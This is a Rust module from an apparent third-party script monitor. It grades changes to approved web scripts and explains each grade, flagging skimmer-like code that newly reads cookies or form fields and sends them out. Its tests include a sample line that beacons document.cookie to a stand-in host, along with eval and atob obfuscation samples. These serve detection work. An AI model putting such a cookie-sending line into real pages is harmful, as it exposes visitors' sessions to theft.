//! How grave a finding is, and why: rules that a person can follow, each told with what met it.

use serde::Serialize;

use super::change::Change;
use super::kind::Drift;
use super::watched::{Watched, consequence};
use crate::alert::Severity;
use crate::analysis::{Item, What};
use crate::inventory::Tier;

/// Things of one kind that a reason names.
const NAMED: usize = 5;

/// A severity, and what led to it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Assessment {
    /// The gravest of the reasons.
    pub severity: Severity,
    /// The gravest first.
    pub because: Vec<String>,
}

/// How grave it is. `unread`: why something that came could not be read.
pub(super) fn assess(
    watched: &Watched,
    drift: Drift,
    changes: &[Change],
    unread: Option<&str>,
) -> Assessment {
    let mut reasons = Reasons(Vec::new());
    let tier = watched.script.tier;
    let breaks = if tier == Tier::Mirror { Severity::Low } else { Severity::Medium };
    match drift {
        Drift::Same | Drift::FirstSeen => {
            return Assessment { severity: Severity::None, because: Vec::new() };
        }
        Drift::Gone => reasons.add(
            breaks,
            match tier {
                Tier::Mirror => "visitors go on getting the approved bytes from Countersign",
                Tier::Pin | Tier::Evergreen => "pages go without this script",
            },
        ),
        Drift::Redirected => reasons.add(Severity::Low, "the URL leads elsewhere than when it was approved"),
        Drift::Unreachable => reasons.add(breaks, "nobody knows what visitors get"),
        Drift::CorsLost => {
            reasons.add(Severity::Medium, "browsers refuse a pinned script that they may not read");
        }
        Drift::Cloaked => {
            reasons.add(
                Severity::High,
                "not everybody is served the same: who looks may not see what visitors get",
            );
            reasons.add(Severity::Low, consequence(tier));
        }
        Drift::Changed => {
            let severity = if tier == Tier::Evergreen { Severity::Medium } else { Severity::Low };
            reasons.add(severity, consequence(tier));
        }
    }
    if let Some(why) = unread {
        reasons.add(Severity::High, format!("browsers may run what can't be read here: {why}"));
    }
    for change in changes {
        reasons.of_code(change, watched.payment);
    }
    reasons.finish()
}

struct Reasons(Vec<(Severity, String)>);

impl Reasons {
    fn add(&mut self, severity: Severity, why: impl Into<String>) {
        let why = why.into();
        if !self.0.iter().any(|(_, known)| *known == why) {
            self.0.push((severity, why));
        }
    }

    fn of_code(&mut self, change: &Change, payment: bool) {
        if let Some(why) = &change.unparsed {
            self.add(Severity::High, format!("the new code can't be read, because {why}"));
        }
        if change.same_code {
            self.add(Severity::Low, "the code is the same once it is formatted; only its writing changed");
            return;
        }
        let named = |kinds: &[What]| {
            let items = change.newly_reached.iter().filter(|item| kinds.contains(&item.what));
            list(&items.collect::<Vec<_>>())
        };
        let sends = named(&[What::Host, What::Network]);
        let takes = named(&[What::Field, What::Cookie, What::Storage, What::Clipboard]);
        if let (Some(sends), Some(takes)) = (&sends, &takes) {
            self.add(
                Severity::High,
                format!(
                    "the new code newly takes ({takes}) and newly sends or loads ({sends}), as skimmers do"
                ),
            );
        } else if let Some(sends) = &sends {
            self.add(Severity::Medium, format!("the new code newly sends or loads: {sends}"));
        } else if let Some(takes) = &takes {
            self.add(Severity::Medium, format!("the new code newly takes: {takes}"));
        }
        if payment && (sends.is_some() || takes.is_some()) {
            self.add(Severity::High, "it runs on a payment page, and reaches what it did not");
        }
        if let Some(code) = named(&[What::Code]) {
            self.add(Severity::High, format!("the new code newly runs text as code: {code}"));
        }
        if let Some(hidden) = named(&[What::Hidden]) {
            self.add(Severity::High, format!("the new code newly hides what it does: {hidden}"));
        }
        if let Some(inserts) = named(&[What::Insert, What::Markup, What::Message]) {
            self.add(
                Severity::Medium,
                format!("the new code newly inserts or tells other windows: {inserts}"),
            );
        }
        if change.newly_reached.iter().all(|item| matches!(item.what, What::Lookup | What::Address))
            && change.unparsed.is_none()
        {
            self.add(
                Severity::Low,
                "the new code reaches nothing that the approved code did not, as far as its text tells",
            );
        }
        if let Some(why) = &change.no_comparison {
            self.add(Severity::Low, format!("everything that it reaches counts as new: {why}"));
        }
    }

    fn finish(mut self) -> Assessment {
        self.0.sort_by_key(|(severity, _)| std::cmp::Reverse(*severity));
        let severity = self.0.first().map_or(Severity::Low, |(severity, _)| *severity);
        Assessment { severity, because: self.0.into_iter().map(|(_, why)| why).collect() }
    }
}

fn list(items: &[&Item]) -> Option<String> {
    if items.is_empty() {
        return None;
    }
    let named: Vec<&str> = items.iter().take(NAMED).map(|item| item.thing.as_str()).collect();
    let more = items.len().saturating_sub(NAMED);
    let more = if more > 0 { format!(" and {more} more") } else { String::new() };
    Some(format!("{}{more}", named.join(", ")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::{Comparison, read};
    use crate::drift::watched::tests::chat;
    use crate::sri::{Algorithm, Digest};

    fn change(old: &str, new: &str) -> Change {
        let (old, new_code) = (read(old.as_bytes()), read(new.as_bytes()));
        let Comparison { new: newly_reached, gone: no_longer_reached } =
            new_code.reaches.compared_with(&old.reaches);
        Change {
            digest: Digest::of(Algorithm::Sha384, new.as_bytes()),
            size: new.len(),
            unparsed: new_code.unparsed,
            no_comparison: None,
            same_code: old.readable == new_code.readable,
            newly_reached,
            no_longer_reached,
        }
    }

    #[test]
    fn what_new_code_reaches_decides_how_grave_a_change_is() {
        for (old, new, severity, why) in [
            ("a(1)", "a( 1 )", Severity::Low, "only its writing changed"),
            ("a(1)", "a(2)", Severity::Low, "reaches nothing that the approved code did not"),
            ("a(1)", "fetch('https://new.example/')", Severity::Medium, "https://new.example"),
            ("a(1)", "a(document.cookie)", Severity::Medium, "reads document.cookie"),
            (
                "a(1)",
                "navigator.sendBeacon('https://e.example/', document.cookie)",
                Severity::High,
                "as skimmers do",
            ),
            ("a(1)", "eval(a)", Severity::High, "runs text as code: eval"),
            ("a(1)", "b = atob(a)", Severity::High, "hides what it does"),
            ("a(1)", "if ((", Severity::High, "can't be read"),
        ] {
            let told = assess(&chat(), Drift::Changed, &[change(old, new)], None);
            assert_eq!(told.severity, severity, "{new}: {told:?}");
            assert!(told.because.iter().any(|because| because.contains(why)), "{new}: {told:?}");
        }
        let mut pay = chat();
        pay.payment = true;
        let told = assess(&pay, Drift::Changed, &[change("a(1)", "fetch('https://new.example/')")], None);
        assert_eq!(told.severity, Severity::High, "{told:?}");
    }

    #[test]
    fn what_can_not_be_read_is_looked_at_now() {
        for drift in [Drift::Changed, Drift::Cloaked] {
            assert_eq!(assess(&chat(), drift, &[], Some("too long")).severity, Severity::High);
        }
    }

    #[test]
    fn every_finding_has_a_reason() {
        for drift in Drift::ALL {
            let told = assess(&chat(), drift, &[], None);
            assert_eq!(told.because.is_empty(), !drift.is_finding(), "{drift:?}");
            assert_eq!(told.severity == Severity::None, !drift.is_finding(), "{drift:?}");
        }
    }
}
